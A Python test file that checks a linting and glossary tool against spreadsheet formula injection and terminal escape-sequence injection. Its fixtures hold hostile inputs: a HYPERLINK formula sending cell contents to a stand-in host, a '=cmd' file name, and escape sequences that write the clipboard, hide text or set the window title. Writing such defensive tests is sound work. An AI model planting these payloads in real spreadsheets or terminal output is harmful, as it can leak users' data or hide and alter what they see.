"""Reports, workbooks and the terminal: text from documents, file names and glossaries is
shown, never run."""

from __future__ import annotations

import csv
import io
import zipfile

from .bounded import run_mtqa

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open me")'
CONTROLS = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[8m\u009b31m\x07"


def formula_glossary(tmp_path):
    p = tmp_path / "g.yaml"
    p.write_text(
        "entries:\n"
        f"  - preferred: '{FORMULA}'\n"
        "    variants: ['@SUM(1+1)', '-2+3']\n",
        encoding="utf-8",
    )
    return p


def sheet_xml(workbook) -> str:
    with zipfile.ZipFile(workbook) as z:
        return "".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        )


def test_glossary_convert_to_xlsx_writes_text_cells_not_formulas(tmp_path):
    out = tmp_path / "g.xlsx"
    r = run_mtqa(["glossary", "convert", str(formula_glossary(tmp_path)), str(out)], tmp_path)
    assert r.returncode == 0, r.stderr
    xml = sheet_xml(out)
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_fix_report_xlsx_writes_text_cells_not_formulas(tmp_path):
    (tmp_path / "=cmd.md").write_text(f"{FORMULA} the the end.\n", encoding="utf-8")
    out = tmp_path / "report.xlsx"
    r = run_mtqa(["fix", "--diff", "--report", str(out), "=cmd.md"], tmp_path)
    assert r.returncode in (0, 1), r.stderr
    xml = sheet_xml(out)
    assert "<f>" not in xml


def test_csv_cells_that_start_a_formula_are_quoted(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "=cmd.md").write_text("It was the the first base.\n", encoding="utf-8")
    r = run_mtqa(["lint", "-f", "csv", "--select", "REP", "=cmd.md"], docs)
    rows = list(csv.reader(io.StringIO(r.stdout)))
    assert rows[1][0] == "'=cmd.md", rows
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    converted = tmp_path / "g.csv"
    run_mtqa(["glossary", "convert", str(formula_glossary(tmp_path)), str(converted)], tmp_path)
    cells = [c for row in csv.reader(converted.open(encoding="utf-8")) for c in row]
    assert f"'{FORMULA}" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_glossary_csv_round_trip_keeps_the_text(tmp_path):
    converted = tmp_path / "g.csv"
    back = tmp_path / "back.yaml"
    run_mtqa(["glossary", "convert", str(formula_glossary(tmp_path)), str(converted)], tmp_path)
    r = run_mtqa(["glossary", "convert", str(converted), str(back)], tmp_path)
    assert r.returncode == 0, r.stderr
    text = back.read_text(encoding="utf-8")
    assert "HYPERLINK" in text and "'=HYPERLINK" not in text and "-2+3" in text


def test_escape_sequences_never_reach_the_terminal(tmp_path):
    name = "notes\x1b[8m.md"
    (tmp_path / name).write_text(f"It was the the {CONTROLS} first base.\n", encoding="utf-8")
    g = tmp_path / "g.yaml"
    g.write_text(
        'entries:\n  - preferred: "Base\\e]0;pwned\\a"\n    variants: [bsae]\n',
        encoding="utf-8",
    )
    (tmp_path / "b.md").write_text("The bsae is here.\n", encoding="utf-8")
    lint = run_mtqa(["lint", "-g", str(g), name, "b.md"], tmp_path)
    missing = run_mtqa(["lint", "missing\x1b]52;c;eA==\x07.md"], tmp_path)
    for r in (lint, missing):
        shown = r.stdout + r.stderr
        assert r.returncode in (1, 2), shown
        for control in ("\x1b", "\x07", "\u009b"):
            assert control not in shown, ascii(shown)
    assert "REP001" in lint.stdout and "\ufffd" in lint.stdout
